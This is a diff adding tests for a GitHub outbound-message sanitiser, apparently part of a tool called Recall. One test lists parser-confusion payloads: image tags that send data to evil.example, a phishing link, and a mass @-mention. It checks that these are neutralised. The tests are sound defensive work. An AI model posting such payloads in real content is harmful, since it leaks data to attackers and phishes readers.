@@ -49,6 +49,65 @@ describe('redaction', () => {
     for (const kept of ['mail first.last@example.org', 'in `@code` and\n```\n@fenced\n```', 'see https://github.com/@alice/x', '[@alice](https://github.com/alice)', '@-x']) expect(outbound(kept, [])).toBe(kept);
   });
 
+  it("what GitHub's parser reads otherwise than the patterns (a backtick inside a tag, an HTML block, a table's pipes) is posted as text, and renders nothing (attacker review, stop 43)", async () => {
+    const { outbound } = await import('../../src/github/outbound.js');
+    const { micromark } = await import('micromark');
+    const { gfm, gfmHtml } = await import('micromark-extension-gfm');
+    const render = (md: string) => micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+    const attacks = [
+      'See <span title="`"></span><img src="https://evil.example/i.png?d=DATA"><span title="`"></span> done.',
+      '<div>`<img src="https://evil.example/a.png?d=DATA">`</div>',
+      'Text <kbd title="`">x</kbd> [label](https://evil.example/phish) <kbd title="`">y</kbd>',
+      '| a | b |\n| - | - |\n| `x | <img src=https://evil.example/t.png> | y` |',
+      '<p title="`">@octo-org/everyone</p> and `<b title="`">`',
+    ];
+    for (const attack of attacks) {
+      const html = render(outbound(attack, []));
+      expect(html, attack).not.toMatch(/<(img|a)\b/);
+      expect(html.replace(/<pre>[\s\S]*?<\/pre>/g, ''), attack).not.toContain('@octo-org');
+      expect(html, attack).toContain('Recall shows this answer as plain text');
+    }
+  });
+
+  it('an answer using every construct Markdown and GitHub offer, nothing off GitHub, is posted as written', async () => {
+    const { outbound } = await import('../../src/github/outbound.js');
+    const answer = [
+      'Fixed with `code`, see [the PR](https://github.com/o/r/pull/1) and [a file](src/a.ts); mail me@example.com.',
+      '',
+      '| a | b |',
+      '|---|:-:|',
+      '| 1 | `x|y` |',
+      '',
+      '- [ ] a task',
+      '- [x] a done one',
+      '',
+      'A note[^1].',
+      '',
+      '[^1]: the note',
+      '',
+      '<details><summary>More</summary>',
+      '',
+      '```html',
+      '<img src="https://evil.example/x.png"> @someone',
+      '```',
+      '',
+      '</details>',
+      '',
+      '~~old~~ **bold** _it_ <kbd>Ctrl</kbd><br> <sub>x</sub>',
+      '',
+      '# A heading',
+      '',
+      '> a quote',
+      '',
+      '1. one',
+      '',
+      '---',
+      '',
+      '![screenshot](https://github.com/o/r/raw/main/a.png) www.github.com/o/r',
+    ].join('\n');
+    expect(outbound(answer, [])).toBe(answer);
+  });
+
   it('leaves no HTML comment that removals joined: a planted delivery marker does not survive, and deep nesting is made visible', async () => {
     const { outbound } = await import('../../src/github/outbound.js');
     const out = outbound('hidden <!-<!---->- recall:delivery=comment-1 --> text', []);
